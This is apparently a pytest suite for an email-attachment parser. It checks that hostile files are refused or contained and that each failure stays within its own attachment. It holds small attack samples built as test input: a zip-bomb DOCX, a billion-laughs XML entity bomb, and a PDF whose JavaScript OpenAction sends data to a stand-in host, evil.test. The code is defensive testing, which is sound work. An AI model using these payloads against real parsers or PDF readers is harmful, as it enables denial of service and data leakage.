"""Hostile attachments stay within the limits, fail only their own asset, and the
message is stored: a zip bomb DOCX, an entity bomb DOCX, a PDF with JavaScript, a PDF
that makes the parser raise, a 1 GB sparse file, a reader that never returns."""

from __future__ import annotations

import io
import json
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from mailatlas_clean import ExtractLimits, ParseJob, ParserConfig, parse_bytes, parse_many
from mailatlas_clean.attachments import _readers, register_reader
from mailatlas_clean.pool._pool import parse_one
from mailatlas_cli import MailAtlas
from mailatlas_core import AssetText

from .files import csv_bytes, docx_bytes, message_with, pdf_bytes
from .readers import ENDLESS, STUCK_AFTER_ONE_ROW

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&lol3;</w:t></w:r></w:p></w:body></w:document>"""


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any connection attempt during a test fails it (the readers must never try)."""

    def refuse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("an attachment reader tried to use the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def _rewrite(docx: bytes, extra: dict[str, bytes]) -> bytes:
    """``docx`` with some entries replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as src, zipfile.ZipFile(out, "w") as dst:
        for entry in src.infolist():
            if entry.filename not in extra:
                dst.writestr(entry, src.read(entry))
        for name, data in extra.items():
            dst.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


def _ingest(tmp_path: Path, raw: bytes) -> dict[str, AssetText | None]:
    """Store ``raw`` through the facade; its assets' text readings by file name."""
    (tmp_path / "m.eml").write_bytes(raw)
    with MailAtlas(tmp_path / "store.db", tmp_path / "ws") as atlas:
        (ref,) = atlas.ingest_eml([tmp_path / "m.eml"])
        return {a.filename: a.text for a in atlas.get_document(ref.id).assets}


def test_zip_bomb_docx_fails_its_asset_only(tmp_path: Path) -> None:
    # 40 MB of one byte inflate from ~40 KB: refused from the ZIP directory, unread.
    bomb = _rewrite(docx_bytes("harmless"), {"word/bomb.xml": b" " * (40 << 20)})
    assert len(bomb) < 200_000
    texts = _ingest(
        tmp_path,
        message_with([("bomb.docx", DOCX, bomb), ("ok.csv", "text/csv", csv_bytes())]),
    )
    bomb_text, ok_text = texts["bomb.docx"], texts["ok.csv"]
    assert bomb_text is not None and bomb_text.status == "failed"
    assert "zip bomb" in (bomb_text.error or "")
    assert ok_text is not None and ok_text.status == "ok"


def test_zip_limits_on_size_and_entries() -> None:
    docx = docx_bytes("harmless")
    small = ExtractLimits(max_zip_bytes=1 << 20, max_zip_entries=20)
    big = _rewrite(docx, {"word/media/big.bin": bytes(range(256)) * 8192})  # 2 MB stored
    many = _rewrite(docx, {f"word/x{i}.bin": b"x" for i in range(30)})
    from mailatlas_clean import extract_text

    for data, why in ((big, "above the 1 MB limit"), (many, "entries, above the 20 limit")):
        text = extract_text(data, DOCX, "a.docx", small)
        assert text.status == "failed" and why in (text.error or ""), text


def test_entity_bomb_docx_is_refused_before_any_parser_expands_it() -> None:
    from mailatlas_clean import extract_text

    text = extract_text(_rewrite(docx_bytes("x"), {"word/document.xml": LAUGHS}), DOCX, "l.docx")
    assert text.status == "failed"
    assert "word/document.xml declares a DTD or entities" in (text.error or "")


@pytest.mark.chromium
@pytest.mark.slow
def test_pdf_with_javascript_is_read_and_runs_nothing(tmp_path: Path) -> None:
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes("Quarterly figures inside"))))
    script = "app.launchURL('http://evil.test/?leak=1'); this.submitForm('http://evil.test');"
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    )
    out = io.BytesIO()
    writer.write(out)
    hostile = out.getvalue()
    assert b"/JavaScript" in hostile
    # A PDF that makes the parser raise (cut short, then garbage) in the same message.
    broken = hostile[: len(hostile) // 3] + b"\n%%EOF garbage \xff\xfe trailer <<"
    texts = _ingest(
        tmp_path,
        message_with(
            [("js.pdf", "application/pdf", hostile), ("broken.pdf", "application/pdf", broken)]
        ),
    )
    js = texts["js.pdf"]
    assert js is not None and js.status == "ok", js
    with MailAtlas(tmp_path / "store.db", tmp_path / "ws") as atlas:
        (ref,) = atlas.list_documents(query="Quarterly")
        assert ref.matched_in == ("attachment",)
        stored = atlas.get_asset(ref.matched_asset_ids[0])
        assert stored.text is not None and "Quarterly figures inside" in (stored.text.text or "")
        assert "evil.test" not in (stored.text.text or "")
    bad = texts["broken.pdf"]
    assert bad is not None and bad.status in ("failed", "ok")
    if bad.status == "failed":
        assert (bad.error or "").startswith("the PDF could not be read")


def test_pdf_that_makes_the_parser_raise_fails_its_asset(tmp_path: Path) -> None:
    broken = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\nxref\n0 x\ntrailer"
    texts = _ingest(tmp_path, message_with([("broken.pdf", "application/pdf", broken)]))
    bad = texts["broken.pdf"]
    assert bad is not None and bad.status == "failed"
    assert (bad.error or "").startswith("the PDF could not be read (")


def test_a_1_gb_sparse_file_is_refused_unread(tmp_path: Path) -> None:
    sparse = tmp_path / "huge.pdf"
    with open(sparse, "wb") as fp:
        fp.truncate(1 << 30)
    # In a fresh interpreter, so that its peak memory is this call's alone. Its peak is
    # read from /proc (VmHWM belongs to the new address space): ru_maxrss would carry the
    # forking pytest process's own peak across exec on Linux.
    code = (
        "import json, sys\n"
        "from mailatlas_clean import extract_file\n"
        "text = extract_file(sys.argv[1], 'application/pdf')\n"
        "hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM:')][0]\n"
        "print(json.dumps([text.to_dict(), int(hwm.split()[1])]))"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code, str(sparse)], capture_output=True, text=True, timeout=300
    )
    assert proc.returncode == 0, proc.stderr
    text, peak_kb = json.loads(proc.stdout)
    assert text["status"] == "skipped"
    assert text["error"] == (
        "the file is 1024.0 MB, above the 32 MB limit for reading attachment text"
    )
    assert peak_kb < 200 * 1024  # nowhere near the file's size


def test_oversized_attachment_is_skipped_and_the_message_kept() -> None:
    raw = message_with([("big.txt", "text/plain", b"a" * (3 << 20)), ("s.csv", "text/csv", b"a")])
    doc = parse_bytes(raw, ParserConfig(attachments=ExtractLimits(max_input_bytes=1 << 20)))
    big, small = (a.text for a in doc.assets)
    assert big is not None and big.status == "skipped"
    assert "above the 1 MB limit" in (big.error or "")
    assert small is not None and small.status == "ok"


def test_a_reader_that_never_returns_is_stopped_by_its_budget(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(_readers, "_registered", {})  # this test's readers only
    register_reader("text", ENDLESS)
    register_reader("html", STUCK_AFTER_ONE_ROW)
    config = ParserConfig(attachments=ExtractLimits(time_budget_s=0.5))
    raw = message_with(
        [
            ("stuck.txt", "text/plain", b"x"),
            ("ok.csv", "text/csv", b"a,b"),
            ("part.html", "text/html", b"<p>x</p>"),
        ]
    )
    # Under the message's own budget (parse_one with limits), as the CLI parses small runs:
    # the file's budget nests inside it and the message's is restored afterwards.
    outcome = parse_one(ParseJob(tag=0, raw=raw), config, config.limits)
    assert outcome is not None and not hasattr(outcome, "reason")
    stuck, ok, part = (a.text for a in outcome.assets)  # type: ignore[union-attr]
    assert stuck is not None and stuck.status == "failed"
    assert stuck.error == "reading the text took longer than its 0.5 s budget"
    assert ok is not None and ok.status == "ok"
    # What was read before the budget ran out is kept, and said to be partial.
    assert part is not None and (part.status, part.text, part.truncated) == ("ok", "row 1", True)
    assert part.error == "reading the HTML took longer than its 0.5 s budget; the text is partial"


def test_worker_processes_extract_and_send_the_text_back() -> None:
    raws = [message_with([("n.csv", "text/csv", f"k,v\nrow,{i}\n".encode())], subject=f"s{i}")
            for i in range(4)]  # fmt: skip
    jobs = [ParseJob(tag=i, raw=raw) for i, raw in enumerate(raws)]
    results = list(parse_many(jobs, workers=1, inline_below=1, chunk_size=1))
    for i, (_job, outcome) in enumerate(results):
        (asset,) = outcome.assets  # type: ignore[union-attr]
        assert asset.text is not None and asset.text.text == f"k\tv\nrow\t{i}"
